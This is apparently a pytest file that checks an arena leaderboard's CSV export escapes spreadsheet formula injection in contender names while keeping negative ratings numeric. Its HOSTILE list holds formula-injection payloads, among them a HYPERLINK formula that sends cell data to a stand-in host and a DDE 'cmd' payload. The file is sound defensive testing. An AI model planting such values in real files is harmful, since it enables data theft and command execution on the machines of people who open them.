"""`/leaderboard.csv` opened in a spreadsheet: names are text, figures stay figures."""

from __future__ import annotations

import csv
import io
import json

import pytest

from arena.cli import main as arena_main

# Contender names come from the pool file and from imported vote files: anyone who hands the
# operator a file names contenders. Each of these would run as a formula in a spreadsheet.
HOSTILE = ['=HYPERLINK("http://x.invalid/?"&A1,"see")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
PLAIN = "plain-model"


def _votes_file(tmp_path):  # type: ignore[no-untyped-def]
    names = [*HOSTILE, PLAIN]
    rows = []
    pairs = [(a, b) for a in names for b in names if a != b]
    for i in range(400):
        a, b = pairs[i % len(pairs)]
        # the plain model wins most of its battles: the others end far below it
        winner = "model_a" if a == PLAIN else "model_b" if b == PLAIN else ("model_a" if i % 2 else "model_b")
        rows.append({"question_id": f"q{i}", "model_a": a, "model_b": b, "winner": winner, "tstamp": 1767225600 + i})
    path = tmp_path / "votes.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return path


class TestLeaderboardCsv:
    async def test_text_cells_are_neutralised_and_negative_ratings_stay_numbers(
        self, client, settings, tmp_path, monkeypatch: pytest.MonkeyPatch
    ):
        monkeypatch.setenv("ARENA_DATABASE_URL", settings.resolved_database_url)
        monkeypatch.setenv("ARENA_CONFIG", "/nonexistent/arena.toml")
        assert arena_main(["import", str(_votes_file(tmp_path))]) == 0
        # anchored at 0: everyone below the plain model has a negative rating
        args = ["rank", "--rounds", "5", "--no-style", "--anchor", PLAIN, "--anchor-rating", "0"]
        assert arena_main(args) == 0

        response = await client.get("/leaderboard.csv")
        assert response.status_code == 200
        rows = list(csv.DictReader(io.StringIO(response.text)))
        assert {r["contender"] for r in rows} == {"'" + name for name in HOSTILE} | {PLAIN}
        negative = [r for r in rows if r["contender"] != PLAIN]
        assert negative and all(float(r["rating"]) < 0 and r["rating"].startswith("-") for r in negative)
        assert all(float(r["ci_low"]) < 0 for r in negative)  # numbers, not quoted text
        board = (await client.get("/api/leaderboard")).json()["leaderboard"]
        assert {r["contender"] for r in board} == {*HOSTILE, PLAIN}  # the JSON keeps the names as they are
